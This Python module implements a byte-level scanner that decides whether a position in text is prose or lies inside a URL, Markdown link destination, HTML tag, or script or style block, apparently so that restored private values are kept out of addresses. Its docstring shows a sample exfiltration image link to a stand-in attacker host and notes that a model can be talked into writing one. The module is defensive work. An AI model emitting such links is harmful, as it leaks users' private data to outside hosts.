"""Is this place of a text prose, or could it be part of an address that somebody fetches?

A restored value must not get out by an address: a client shows `![](https://evil.example/?q=…)`
by fetching it, and a model can be talked into writing one. So a reader follows the text and says
whether the place that it has reached is inside of one of these, as any renderer may see it:

- *a word with an address in it*: from `://`, `www.` or a scheme such as `mailto:` to the next
  space; without any of these, from one of `/ \\ ? # & %` to the next space or quote;
- *the destination of a Markdown link or image*: from `](` to its closing bracket, or an empty line;
  of a definition, the word behind `]:`; in angle brackets behind either to the closing one, spaces
  and all;
- *an HTML tag*: from `<` and a letter to the `>` that ends it. Every `<` may begin one, and each of
  the tags that may be open is followed by the tokenizer of HTML (13.2.5), quotes and all;
- *the content of `<script>` and `<style>`*;
- *all that follows a tag that was torn*: Markdown hands a block that begins with `<` on as HTML, up
  to an empty line (some up to a line that ends them). A tag that is open there goes on into what
  Markdown makes of the text behind it, where `>` is `&gt;` and ends nothing.

When in doubt a place is no prose. Only ASCII spaces end a word: some readers of addresses go on
behind others. State is a few numbers, so that it costs no memory and the same for every cut.
"""

from __future__ import annotations

import re

_TAIL = 16
"""Bytes before a byte that decide what it means."""

_CALM = re.compile(rb"[<\]:/\\?#&%.(]")
"""Outside of all these, only these bytes begin something."""
_BUSY = re.compile(
    rb"[^A-Za-z0-9,;_-]|(?i:(?<=<scrip)t|(?<=</scrip)t|(?<=<styl)e|(?<=</styl)e|(?<=<pr)e"
    rb"|(?<=<textare)a)"
)
"""Inside one of them, behind the first of other bytes, only these change anything."""
_SPACES = b" \t\n\r\f\v"
_MARKS = b"/\\?#&%"
_QUOTES = b"\"'`<>|"
_SCHEME = re.compile(
    rb"(?:mailto|xmpp|data|tel|sms|callto|sip|sips|skype|geo|cid|blob|file|urn|magnet"
    rb"|javascript|vbscript|view-source)$"
)
_ELEMENTS = (b"<script", b"<style")
_ELEMENT_ENDS = (b"</script", b"</style")

_RAW_BLOCKS = (b"<!", b"<?", b"<pre", b"<script", b"<style", b"<textarea")
"""Blocks that end with the line in which their end mark stands (CommonMark 0.31, section 4.6)."""
_LINE_START = re.compile(rb"(?:\A|[\n\r\x1a])[ \t>*+0-9.)-]*$")
_EMPTY_LINE = re.compile(rb"[\n\r\x1a][ \t\r\x1a]*$|^[ \t\r\x1a]{16}$")
"""Before a line end. What is no space to every reader, `view.OTHER`, is a line end to some."""
_LINE_ENDS = b"\n\r\x1a"

_NO_BLOCK, _BLOCK, _RAW_BLOCK = range(3)

_WORD_CALM, _WORD_MARKED, _WORD_ADDRESS = range(3)

# Where a tag may be, as a set of bits: the states of HTML's tokenizer, and a destination in angle
# brackets.
_LESS = 1
_NAME = 2
_BEFORE_ATTRIBUTE = 4
_ATTRIBUTE = 8
_AFTER_ATTRIBUTE = 16
_BEFORE_VALUE = 32
_DOUBLE_QUOTED = 64
_SINGLE_QUOTED = 128
_UNQUOTED = 256
_ANGLE = 512
_ANGLE_ESCAPE = 1024
_REAL_TAG = ~(_LESS | _ANGLE | _ANGLE_ESCAPE)

_PLAIN = frozenset(byte for byte in range(256) if not _BUSY.match(bytes((byte,))))
_OTHER = -1
_TAG_BYTES = frozenset(b"/=\"'>\\")
_BEGINS_TAG = frozenset(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ/!?")


def _next_state(state: int, byte: int) -> int:
    """Where one open tag is behind a byte: one of _TAG_BYTES, a space, or _OTHER. 0 when it has
    ended."""
    is_space = byte == 0x20
    character = chr(byte) if byte > 0 else ""
    match state:
        case 64:
            return _BEFORE_ATTRIBUTE if character == '"' else state
        case 128:
            return _BEFORE_ATTRIBUTE if character == "'" else state
        case 1024:
            return _ANGLE
        case 512 if character == "\\":
            return _ANGLE_ESCAPE
    if character == ">":
        return 0
    if state == _ANGLE:
        return state
    if state == _UNQUOTED:
        return _BEFORE_ATTRIBUTE if is_space else state
    if state == _BEFORE_VALUE:
        if is_space:
            return state
        return {'"': _DOUBLE_QUOTED, "'": _SINGLE_QUOTED}.get(character, _UNQUOTED)
    if character == "/":
        return _BEFORE_ATTRIBUTE
    if character == "=" and state in (_ATTRIBUTE, _AFTER_ATTRIBUTE):
        return _BEFORE_VALUE
    if is_space:
        if state == _NAME:
            return _BEFORE_ATTRIBUTE
        return _AFTER_ATTRIBUTE if state == _ATTRIBUTE else state
    return state if state == _NAME else _ATTRIBUTE


_STATES = (2, 4, 8, 16, 32, 64, 128, 256, 512, 1024)
_NEXT = {
    (state, byte): _next_state(state, byte)
    for state in _STATES
    for byte in (*_TAG_BYTES, 0x20, _OTHER)
}


class Prose:
    """Follows one text. `read` what comes, in pieces however cut; then ask `is_here`."""

    __slots__ = ("_block", "_depth", "_elements", "_is_beginning", "_is_blank", "_is_escaped",
                 "_is_torn", "_tags", "_tail", "_word")  # fmt: skip

    def __init__(self) -> None:
        self._tail = b""
        self._word = _WORD_CALM
        self._tags = 0
        self._depth = 0
        """Brackets of a destination that are open."""
        self._is_escaped = False
        """The byte before was a backslash that counts, in a destination."""
        self._is_beginning = False
        """Only spaces since `](` or `]:`."""
        self._is_blank = False
        """Only spaces since the last line end, in a destination."""
        self._elements = 0
        """Scripts and styles that are open."""
        self._block = _NO_BLOCK
        """Whether Markdown may take this for HTML. A block of the raw kind is never over."""
        self._is_torn = False

    def copy(self) -> Prose:
        other = Prose()
        other._block = self._block
        other._depth = self._depth
        other._elements = self._elements
        other._is_beginning = self._is_beginning
        other._is_blank = self._is_blank
        other._is_escaped = self._is_escaped
        other._is_torn = self._is_torn
        other._tags = self._tags
        other._tail = self._tail
        other._word = self._word
        return other

    @property
    def is_here(self) -> bool:
        """Whether a value may stand here. It may as a whole in angle brackets, `<jo@x.org>`."""
        return not (
            self._word
            or self._tags & ~_LESS
            or self._depth
            or self._elements
            or self._is_beginning
            or self._is_torn
            or self._tail.endswith(b"@")
        )

    @property
    def _is_calm(self) -> bool:
        return not (
            self._word
            or self._tags
            or self._depth
            or self._elements
            or self._is_beginning
            or self._block == _BLOCK
        )

    def read(self, data: bytes) -> None:
        """Go on over a stretch of a view, in which only ASCII spaces are spaces."""
        text = self._tail + data
        at = len(self._tail)
        while at < len(text):
            if self._is_calm:
                found = _CALM.search(text, at)
                if found is None:
                    break
                at = found.start()
            byte = text[at]
            self._step(byte, text[max(0, at - _TAIL) : at])
            at += 1
            if byte in _PLAIN:
                found = _BUSY.search(text, at)
                at = found.start() if found else len(text)
        self._tail = text[-_TAIL:]

    def _step(self, byte: int, before: bytes) -> None:
        is_destination = self._is_beginning
        self._follow_block(byte, before)
        self._follow_tags(byte)
        self._follow_destination(byte, before)
        if byte in _SPACES:
            self._word = _WORD_CALM
            return
        if is_destination:
            self._word = _WORD_ADDRESS
        before = before.lower()
        if byte in _QUOTES and self._word == _WORD_MARKED:
            self._word = _WORD_CALM
        elif byte in _MARKS:
            begins = byte in b"/\\" and before.endswith((b":/", b":\\"))
            self._word = _WORD_ADDRESS if begins else self._word or _WORD_MARKED
        elif (byte == 0x3A and _SCHEME.search(before)) or (byte == 0x2E and before[-3:] == b"www"):
            self._word = _WORD_ADDRESS
        if byte in b"eEtT":
            name = before + bytes((byte,)).lower()
            if name.endswith(_ELEMENTS):
                self._elements += 1
            elif name.endswith(_ELEMENT_ENDS):
                self._elements = max(0, self._elements - 1)

    def _follow_tags(self, byte: int) -> None:
        tags = 0
        if self._tags:
            kind = 0x20 if byte in _SPACES else byte if byte in _TAG_BYTES else _OTHER
            for state in _STATES:
                if self._tags & state:
                    tags |= _NEXT[state, kind]
            if self._tags & _LESS and byte in _BEGINS_TAG:
                tags |= _NAME
        if byte == 0x3C:
            tags |= _LESS | (_ANGLE if self._is_beginning else 0)
        self._tags = tags

    def _follow_block(self, byte: int, before: bytes) -> None:
        """Before `_follow_tags`."""
        if byte == 0x3C:
            if self._block == _NO_BLOCK and _LINE_START.search(before):
                self._block = _BLOCK
        elif self._tags & (_LESS | _NAME):
            name = (before + bytes((byte,))).lower()
            if name.endswith(_RAW_BLOCKS):
                self._block = _RAW_BLOCK
        if byte in _LINE_ENDS and self._block:
            is_empty = _EMPTY_LINE.search(before) is not None
            if self._tags & _REAL_TAG and (is_empty or self._block == _RAW_BLOCK):
                self._is_torn = True
            if is_empty and self._block == _BLOCK:
                self._block = _NO_BLOCK

    def _follow_destination(self, byte: int, before: bytes) -> None:
        is_space = byte in _SPACES
        opens = before.endswith(b"]") and byte in b"(:"
        self._is_beginning = opens or (self._is_beginning and is_space)
        if not self._depth:
            if opens and byte == 0x28:
                self._depth = 1
                self._is_escaped = self._is_blank = False
            return
        if byte == 0x0A and self._is_blank:
            self._depth = 0
            self._tags &= ~(_ANGLE | _ANGLE_ESCAPE)
            return
        self._is_blank = byte == 0x0A or (self._is_blank and is_space)
        if self._is_escaped:
            self._is_escaped = False
        elif byte == 0x5C:
            self._is_escaped = True
        elif byte == 0x28:
            self._depth += 1
        elif byte == 0x29:
            self._depth -= 1
